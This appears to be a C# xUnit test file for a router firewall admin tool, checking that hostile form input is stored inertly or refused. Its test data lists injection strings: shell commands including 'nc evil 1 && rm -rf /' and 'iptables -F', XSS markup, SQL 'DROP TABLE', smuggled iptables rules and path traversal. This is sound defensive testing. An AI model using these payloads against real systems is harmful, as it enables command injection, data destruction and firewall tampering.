using System.Net;
using RouterAdmin.Firewall.Backends.Iptables;
using RouterAdmin.Firewall.Diff;
using RouterAdmin.Firewall.LiveState;
using RouterAdmin.Firewall.Model;
using RouterAdmin.Firewall.Planning;
using RouterAdmin.Inventory;
using RouterAdmin.Refusals;
using RouterAdmin.Security;
using RouterAdmin.Tests.Support;
using Xunit;

namespace RouterAdmin.Tests;

/// <summary>
/// Every text field of every form, fed what an attacker or a careless paste would type. Text that is legitimate in a
/// name or a note (quotes, markup, shell and iptables syntax) is stored as typed and cannot change what the planner
/// produces; text that cannot be valid (line breaks in a name, oversized, malformed addresses) gets a clear message at
/// its field, and nothing already saved is lost.
/// </summary>
public sealed class HostileInputSpecs : InventorySpecs
{
    /// <summary>One line each, so they are acceptable names: quotes, markup, shell and iptables syntax.</summary>
    public static TheoryData<string> OneLineHostile =>
    [
        "\"; iptables -F; echo \"",
        "O'Brien's $(reboot) `id` | nc evil 1 && rm -rf /",
        "<script>alert('x')</script>",
        "<img src=x onerror=alert(1)>",
        "-j ACCEPT -A FORWARD -s 0.0.0.0/0",
        "COMMIT *filter :INPUT DROP",
        "--comment \"x\" -j MASQUERADE",
        "%_\\ ' \" \\\" \\\\",
    ];

    /// <summary>Multi-line, for notes (which may span lines) and for names (which must not).</summary>
    public static TheoryData<string> MultiLineHostile =>
    [
        "Mallory\nCOMMIT\n*filter\n-A INPUT -j ACCEPT\nCOMMIT",
        "a\r\n-A POSTROUTING -j SNAT --to-source 1.2.3.4",
        "tab\there",
    ];

    public static TheoryData<string, string> MalformedAddresses => new()
    {
        { "192.168.1.2; reboot", "is not an IPv4 address" },
        { "192.168.1.2\n-j ACCEPT", "is not an IPv4 address" },
        { "$(id)", "is not an IPv4 address" },
        { "192.168.1.2 -j ACCEPT", "is not an IPv4 address" },
        { new string('9', 5000), "is not an IPv4 address" },
    };

    [Theory]
    [MemberData(nameof(OneLineHostile))]
    public async Task A_hostile_one_line_name_and_note_is_stored_as_typed_and_the_plan_means_the_same_as_with_a_plain_name(string hostile)
    {
        var (plain, _) = await PlanWithClientNamedAsync("Alice", "plain note", "Contivity");
        await ResetAsync();

        var (planned, inventory) = await PlanWithClientNamedAsync(hostile, hostile, hostile);

        var client = Assert.Single(inventory.Clients);
        Assert.Equal(hostile.Trim(), client.Name);
        Assert.Equal(hostile.Trim(), client.Notes);
        Assert.Equal(hostile.Trim(), Assert.Single(inventory.Endpoints).Name);
        Assert.Equal(Meaning(plain), Meaning(planned));
        AssertOnlyOwnedCommands(RestoreScriptWriter.Write(planned, OwnedState.Nothing));
    }

    [Theory]
    [MemberData(nameof(MultiLineHostile))]
    public async Task A_line_break_in_a_name_is_refused_at_its_field_and_a_multi_line_note_is_kept_and_changes_nothing_in_the_plan(string hostile)
    {
        var before = await InventoryJsonAsync();

        var refused = await Assert.ThrowsAsync<InvalidInput>(() =>
            Clients.CreateAsync(Make.Client(hostile, "192.168.1.2"), Actors.Admin, Ct));
        var endpointRefused = await Assert.ThrowsAsync<InvalidInput>(() =>
            Endpoints.CreateAsync(Make.Endpoint(hostile, "198.51.100.10"), Actors.Admin, Ct));

        Assert.Contains("single line", refused.Errors.For(nameof(ClientDraft.Name)));
        Assert.Contains("single line", endpointRefused.Errors.For(nameof(EndpointDraft.Name)));
        Assert.Equal(before, await InventoryJsonAsync());

        var (plain, _) = await PlanWithClientNamedAsync("Alice", "plain note", "Contivity");
        await ResetAsync();
        var (noted, inventory) = await PlanWithClientNamedAsync("Alice", hostile, "Contivity");
        Assert.Equal(hostile.Trim(), Assert.Single(inventory.Clients).Notes);
        Assert.Equal(plain.SnatRules, noted.SnatRules);
    }

    [Theory]
    [MemberData(nameof(MalformedAddresses))]
    public async Task A_malformed_address_in_any_address_field_is_refused_at_that_field_and_loses_nothing_saved(string hostile, string message)
    {
        var vpn = await AddEndpointAsync("Contivity", "198.51.100.10");
        var alice = await AddClientAsync("Alice", "192.168.1.2");
        var before = await InventoryJsonAsync();

        var client = await Assert.ThrowsAsync<InvalidInput>(() => Clients.UpdateAsync(alice, Make.Client("Alice", hostile), Actors.Admin, Ct));
        var external = await Assert.ThrowsAsync<InvalidInput>(() => Addresses.CreateAsync(Make.External(hostile), Actors.Admin, Ct));
        var endpoint = await Assert.ThrowsAsync<InvalidInput>(() => Endpoints.UpdateAsync(vpn, Make.Endpoint("Contivity", hostile), Actors.Admin, Ct));
        var settings = await Assert.ThrowsAsync<InvalidInput>(() =>
            Settings.UpdateAsync(new SettingsDraft { WanInterface = "eth1", LanSubnet = hostile }, Actors.Admin, Ct));

        Assert.Contains(message, client.Errors.For(nameof(ClientDraft.LanAddress)));
        Assert.Contains(message, external.Errors.For(nameof(ExternalAddressDraft.Address)));
        Assert.Contains("is not an IPv4 address or CIDR network", endpoint.Errors.For(nameof(EndpointDraft.Destination)));
        Assert.Contains("is not an IPv4 address or CIDR network", settings.Errors.For(nameof(SettingsDraft.LanSubnet)));
        // The message quotes what was typed, but never a wall of it.
        Assert.True(client.Errors.For(nameof(ClientDraft.LanAddress))!.Length < 200);
        Assert.Equal(before, await InventoryJsonAsync());
    }

    [Theory]
    [InlineData("eth1; reboot")]
    [InlineData("eth1 -j ACCEPT")]
    [InlineData("$(id)")]
    [InlineData("../../etc")]
    [InlineData("eth1\nCOMMIT")]
    [InlineData("averyveryverylongname")]
    public async Task An_interface_name_that_is_not_one_is_refused_wherever_it_is_typed(string hostile)
    {
        var before = await InventoryJsonAsync();

        var external = await Assert.ThrowsAsync<InvalidInput>(() => Addresses.CreateAsync(Make.External(iface: hostile), Actors.Admin, Ct));
        var settings = await Assert.ThrowsAsync<InvalidInput>(() =>
            Settings.UpdateAsync(new SettingsDraft { WanInterface = hostile, LanSubnet = "192.168.1.0/24" }, Actors.Admin, Ct));

        Assert.Contains("is not a Linux interface name", external.Errors.For(nameof(ExternalAddressDraft.Interface)));
        Assert.Contains("is not a Linux interface name", settings.Errors.For(nameof(SettingsDraft.WanInterface)));
        Assert.Equal(before, await InventoryJsonAsync());
    }

    [Fact]
    public async Task Oversized_input_in_every_text_field_gets_a_clear_message_and_an_edit_that_fails_keeps_the_saved_row()
    {
        var huge = new string('x', 100_000);
        var vpn = await AddEndpointAsync("Contivity", "198.51.100.10");
        var alice = await AddClientAsync("Alice", "192.168.1.2");
        var address = await AddExternalAsync("203.0.113.2");
        var before = await InventoryJsonAsync();

        var name = await Assert.ThrowsAsync<InvalidInput>(() => Clients.UpdateAsync(alice, Make.Client(huge, "192.168.1.2"), Actors.Admin, Ct));
        var notes = await Assert.ThrowsAsync<InvalidInput>(() => Clients.UpdateAsync(alice, Make.Client("Alice", "192.168.1.2", notes: huge), Actors.Admin, Ct));
        var mac = await Assert.ThrowsAsync<InvalidInput>(() => Clients.UpdateAsync(alice, Make.Client("Alice", "192.168.1.2", mac: huge), Actors.Admin, Ct));
        var externalNotes = await Assert.ThrowsAsync<InvalidInput>(() => Addresses.UpdateAsync(address, Make.External(notes: huge), Actors.Admin, Ct));
        var endpointName = await Assert.ThrowsAsync<InvalidInput>(() => Endpoints.UpdateAsync(vpn, Make.Endpoint(huge, "198.51.100.10"), Actors.Admin, Ct));
        var endpointNotes = await Assert.ThrowsAsync<InvalidInput>(() => Endpoints.UpdateAsync(vpn, Make.Endpoint("Contivity", "198.51.100.10", huge), Actors.Admin, Ct));

        Assert.Contains("at most 64 characters (this one has 100000)", name.Errors.For(nameof(ClientDraft.Name)));
        Assert.Contains("at most 2000 characters", notes.Errors.For(nameof(ClientDraft.Notes)));
        Assert.Contains("is not a MAC address", mac.Errors.For(nameof(ClientDraft.MacAddress)));
        Assert.Contains("at most 2000 characters", externalNotes.Errors.For(nameof(ExternalAddressDraft.Notes)));
        Assert.Contains("at most 64 characters", endpointName.Errors.For(nameof(EndpointDraft.Name)));
        Assert.Contains("at most 2000 characters", endpointNotes.Errors.For(nameof(EndpointDraft.Notes)));
        Assert.Equal(before, await InventoryJsonAsync());
    }

    [Fact]
    public async Task Hostile_user_names_and_oversized_passwords_are_refused_with_a_message_and_a_hostile_password_is_just_a_password()
    {
        await using var router = await TestConsole.StartAsync();
        var users = router.Get<UserService>();

        var name = await Assert.ThrowsAsync<InvalidInput>(() => users.CreateUserAsync("admin'; DROP TABLE Users;--", "a long enough password", UserRole.Admin, Actors.Admin, Ct));
        var markup = await Assert.ThrowsAsync<InvalidInput>(() => users.CreateUserAsync("<script>", "a long enough password", UserRole.Admin, Actors.Admin, Ct));
        var huge = await Assert.ThrowsAsync<InvalidInput>(() => users.CreateUserAsync("mallory", new string('p', 10_000), UserRole.Admin, Actors.Admin, Ct));
        await users.CreateUserAsync("bobby", "'; DROP TABLE Users;-- $(reboot)", UserRole.Viewer, Actors.Admin, Ct);

        Assert.Contains("user name", name.Errors.For("UserName"));
        Assert.Contains("user name", markup.Errors.For("UserName"));
        Assert.Contains("at most 256 characters", huge.Errors.For("Password"));
        Assert.Equal(SignInOutcome.Succeeded, (await users.CheckPasswordAsync("bobby", "'; DROP TABLE Users;-- $(reboot)", Ct)).Outcome);
        Assert.Equal(["bobby"], (await users.ListAsync(Ct)).Select(u => u.UserName));
    }

    [Theory]
    [InlineData("fix\n-A POSTROUTING -j ACCEPT")]
    [InlineData("")]
    [InlineData("   ")]
    public async Task An_apply_reason_that_is_empty_or_spans_lines_is_refused_before_anything_runs(string reason)
    {
        await using var router = await TestConsole.StartAsync();
        var preview = await router.Engine.PreviewApplyAsync(Ct);

        var result = await router.Engine.ApplyAsync(new RouterAdmin.Firewall.Apply.ApplyRequest(Actors.Admin, reason, preview.Fingerprint), Ct);

        Assert.Equal(RouterAdmin.Firewall.Apply.ApplyResultKind.Refused, result.Kind);
        await using var db = router.NewContext();
        Assert.Empty(db.Revisions);
    }

    /// <summary>Plans an inventory of one client, endpoint and address, the client and endpoint named as given.</summary>
    private async Task<(OwnedState Plan, InventorySnapshot Inventory)> PlanWithClientNamedAsync(string clientName, string notes, string endpointName)
    {
        var vpn = await Endpoints.CreateAsync(Make.Endpoint(endpointName, "198.51.100.10", notes), Actors.Admin, Ct);
        var client = await Clients.CreateAsync(Make.Client(clientName, "192.168.1.2", notes: notes), Actors.Admin, Ct);
        var address = await Addresses.CreateAsync(Make.External("203.0.113.2", notes: notes), Actors.Admin, Ct);
        await Assignments.AssignAsync(client, vpn, address, Actors.Admin, Ct);
        var inventory = await Store.CaptureAsync(Ct);
        return (Planned.Rules(inventory), inventory);
    }

    private async Task ResetAsync()
    {
        await using var db = Database.NewContext();
        await Store.ReplaceAsync(db, (await Store.CaptureAsync(Ct)) with { Clients = [], Endpoints = [], ExternalAddresses = [], Assignments = [] }, Ct);
    }

    /// <summary>What the rules do, leaving out the comment (the only place a name can appear).</summary>
    private static IReadOnlyList<string> Meaning(OwnedState plan) =>
        plan.SnatRules.Select(rule => SnatRuleMeaning.TryParse(rule, out var m) ? $"{m.Source} {m.Destination} {m.ToSource}" : "not a mapping: " + rule.SaveLine)
            .Append(string.Join(",", plan.Jumps.Select(j => $"{j.Position}:{j.Rule.Target}")))
            .ToArray();

    /// <summary>Played through iptables-restore's own syntax, the script touches only RouterAdmin's chains and its jump.</summary>
    private static void AssertOnlyOwnedCommands(string script)
    {
        var lines = script.Split('\n', StringSplitOptions.RemoveEmptyEntries);
        Assert.Equal("*nat", lines[0]);
        Assert.Equal("COMMIT", lines[^1]);
        foreach (var line in lines[1..^1])
        {
            var words = IptablesSyntax.Split(line);
            Assert.True(words[0] is ":ROUTERADMIN-SNAT" or ":ROUTERADMIN-MASQ" || (words[0] is "-A" or "-I" && OwnedChains.IsOwned(words[1]))
                || (words[0] == "-I" && words[1] == "POSTROUTING" && words[^1] == OwnedChains.Snat), $"unexpected restore line: {line}");
        }
        // And the simulated kernel, which plays the script as iptables-restore would, ends up with exactly one rule and one jump.
        var table = RouterAdmin.Firewall.Backends.Simulated.RestoreInterpreter.Apply(IptablesSaveParser.Parse("*nat\n:POSTROUTING ACCEPT [0:0]\nCOMMIT\n"), script);
        Assert.Single(table.RulesOf(OwnedChains.Snat));
        Assert.Single(table.RulesOf(OwnedChains.Postrouting));
    }
}
